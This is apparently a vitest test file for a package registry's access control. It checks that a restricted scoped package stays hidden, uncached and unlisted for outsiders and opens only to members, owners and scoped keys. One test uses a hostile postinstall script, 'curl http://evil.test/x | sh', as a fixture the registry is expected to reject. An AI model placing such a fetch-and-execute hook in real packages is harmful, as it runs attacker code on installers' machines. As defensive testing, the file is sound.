import { describe, expect, test } from "vitest";
import { addMember, createOrg, password, person, tokenOf } from "../../support/people.ts";
import { abbreviated, startRegistry, type TestRegistry } from "../../support/registry.ts";

const restricted = { document: { access: "restricted" } };

/** @acme/secret is restricted; dora is a member of acme, eve is not. */
async function startSecret() {
  const registry = await startRegistry();
  await createOrg(registry, "acme");
  const dora = await person(registry, "dora");
  const eve = await person(registry, "eve");
  await addMember(registry, "acme", "dora", "developer");
  const published = await registry.publish("@acme/secret", "1.0.0", {}, restricted);
  expect(published.status).toBe(201);
  return { registry, dora, eve };
}

const paths = [
  "/@acme%2fsecret",
  "/@acme/secret/1.0.0",
  "/@acme/secret/latest",
  "/@acme/secret/-/secret-1.0.0.tgz",
  "/-/package/@acme%2fsecret/dist-tags",
  "/-/package/@acme%2fsecret/visibility",
  "/-/package/@acme%2fsecret/access",
  "/-/package/@acme%2fsecret/owners",
  "/-/why/@acme%2fsecret",
];

/** What a name that is not there answers, with the name of the one that is. */
async function absentAnswer(registry: TestRegistry, path: string, token?: string) {
  const init = token === undefined ? {} : { token };
  const response = await registry.fetch(path.replaceAll("secret", "absent"), init);
  const { error } = (await response.json()) as { error: string };
  return { status: response.status, error: error.replaceAll("absent", "secret") };
}

describe("a restricted package", () => {
  test.each(paths)(
    "GET %s is for those who were let in, and hidden from all others",
    async (path) => {
      const { registry, dora, eve } = await startSecret();
      await using _ = registry;
      // The first answers fill every cache there is.
      for (const token of [registry.token, dora, dora]) {
        const response = await registry.fetch(path, { token });
        expect(response.status).toBe(200);
        expect(response.headers.get("cache-control")).toMatch(/^(private, no-cache|no-store)$/);
      }
      for (const token of [undefined, eve]) {
        const init = token === undefined ? {} : { token };
        for (const headers of [{}, { accept: abbreviated }]) {
          const response = await registry.fetch(path, { ...init, headers });
          const { error } = (await response.json()) as { error: string };
          const answer = { status: response.status, error };
          expect(answer).toEqual(await absentAnswer(registry, path, token));
          expect(answer.status).toBe(404);
        }
      }
      expect((await registry.fetch(path, { token: dora })).status).toBe(200);
    },
  );

  test("an ETag that somebody knows gives them no 304", async () => {
    const { registry, dora, eve } = await startSecret();
    await using _ = registry;
    for (const path of ["/@acme%2fsecret", "/@acme/secret/-/secret-1.0.0.tgz"]) {
      const known = await registry.fetch(path, { token: dora });
      const headers = { "if-none-match": known.headers.get("etag") ?? "" };
      expect((await registry.fetch(path, { token: dora, headers })).status).toBe(304);
      expect((await registry.fetch(path, { token: eve, headers })).status).toBe(404);
      expect((await registry.fetch(path, { headers })).status).toBe(404);
    }
  });

  test("is in the search of those who may read it only", async () => {
    const { registry, dora, eve } = await startSecret();
    await using _ = registry;
    const found = async (token?: string) => {
      const init = token === undefined ? {} : { token };
      const response = await registry.fetch("/-/v1/search?text=secret", init);
      return ((await response.json()) as { total: number }).total;
    };
    expect([await found(dora), await found(eve), await found()]).toEqual([1, 0, 0]);
  });

  test("opens and closes at once when its access changes", async () => {
    const { registry, dora, eve } = await startSecret();
    await using _ = registry;
    const set = (access: string, token = registry.token) =>
      registry.fetch("/-/package/@acme%2fsecret/access", {
        method: "POST",
        token,
        json: { access },
      });
    expect((await set("public", eve)).status).toBe(403);
    expect((await set("public", dora)).status).toBe(403);
    expect((await set("public")).status).toBe(200);
    const open = await registry.fetch("/@acme%2fsecret");
    expect([open.status, open.headers.get("cache-control")]).toEqual([200, "public, no-cache"]);
    expect((await registry.tarball("@acme/secret", "1.0.0")).status).toBe(200);
    expect((await set("restricted")).status).toBe(200);
    expect((await registry.fetch("/@acme%2fsecret")).status).toBe(404);
    expect((await registry.tarball("@acme/secret", "1.0.0")).status).toBe(404);
    const mfa = await registry.asOwner("/-/package/@acme%2fsecret/access", {
      method: "POST",
      json: { publish_requires_tfa: true },
    });
    expect(mfa.status).toBe(400);
  });

  test("can only be one with a scope", async () => {
    await using registry = await startRegistry();
    expect((await registry.publish("tool", "1.0.0", {}, restricted)).status).toBe(400);
    await registry.publish("tool", "1.0.0");
    const json = { access: "restricted" };
    const set = await registry.asOwner("/-/package/tool/access", { method: "POST", json });
    expect(set.status).toBe(400);
  });

  test("a later publish does not change who may read it", async () => {
    const { registry } = await startSecret();
    await using _ = registry;
    const open = { document: { access: "public" } };
    expect((await registry.publish("@acme/secret", "1.0.1", {}, open)).status).toBe(201);
    expect((await registry.fetch("/@acme%2fsecret")).status).toBe(404);
  });

  test("is closed to tokens of its readers that are narrowed to something else", async () => {
    const { registry, dora } = await startSecret();
    await using _ = registry;
    const make = async (limits: object) => {
      const json = { password, ...limits };
      const init = { method: "POST", token: dora, json };
      return await tokenOf(await registry.fetch("/-/npm/v1/tokens", init));
    };
    const statuses: number[] = [];
    const nothing = { packages_and_scopes_permission: "no-access" };
    for (const limits of [{}, { scopes: ["@acme"] }, { packages: ["other"] }, nothing]) {
      const token = await make(limits);
      statuses.push((await registry.fetch("/@acme%2fsecret", { token })).status);
    }
    expect(statuses).toEqual([200, 200, 404, 404]);
  });

  test("is open to a team that was let at it, to its maintainers and to keys of its scope", async () => {
    const { registry, eve } = await startSecret();
    await using _ = registry;
    const keyOf = async (org: string) => {
      const made = await registry.asOwner("/-/admin/tokens", { method: "POST", json: { org } });
      return ((await made.json()) as { secret: string }).secret;
    };
    await createOrg(registry, "other");
    const read = async (token: string) =>
      (await registry.fetch("/@acme%2fsecret", { token })).status;
    expect(await read(await keyOf("acme"))).toBe(200);
    expect(await read(await keyOf("other"))).toBe(404);
    expect(await read(eve)).toBe(404);
    const json = { user: "eve" };
    await registry.asOwner("/-/package/@acme%2fsecret/owners", { method: "PUT", json });
    expect(await read(eve)).toBe(200);
  });

  test("with nothing but held versions is as absent as any", async () => {
    await using registry = await startRegistry();
    const scripts = { postinstall: "curl http://evil.test/x | sh" };
    const options = { ...restricted, manifest: { scripts } };
    expect((await registry.publish("@acme/secret", "1.0.0", {}, options)).status).toBe(403);
    for (const path of paths.slice(0, 4)) {
      const response = await registry.fetch(path);
      const { error } = (await response.json()) as { error: string };
      const answer = { status: response.status, error };
      expect(answer).toEqual(await absentAnswer(registry, path));
    }
  });

  test("is named by no list and by no cursor to those who were not let in", async () => {
    const { registry, dora, eve } = await startSecret();
    await using _ = registry;
    await registry.publish("abc", "1.0.0");
    const first = async (token: string) =>
      await (await registry.fetch("/?limit=1", { token })).json();

    expect(await first(eve)).toMatchObject({ packages: ["abc"], next: "local:abc" });
    expect(await first(dora)).toMatchObject({
      packages: ["@acme/secret"],
      next: "local:@acme/secret",
    });
  });

  test("costs a public package nothing: it is remembered, a restricted one is not", async () => {
    const { registry } = await startSecret();
    await using _ = registry;
    await registry.publish("@acme/open", "1.0.0");
    for (let i = 0; i < 2; i++) {
      expect((await registry.fetch("/@acme%2fopen")).status).toBe(200);
      expect((await registry.asOwner("/@acme%2fsecret")).status).toBe(200);
    }
    // Whoever sends a token to a public one still gets the shared answer.
    const response = await registry.asOwner("/@acme%2fopen");
    expect(response.headers.get("cache-control")).toBe("public, no-cache");
    expect(response.headers.get("vary")).toBe("Accept, Accept-Encoding");
  });
});
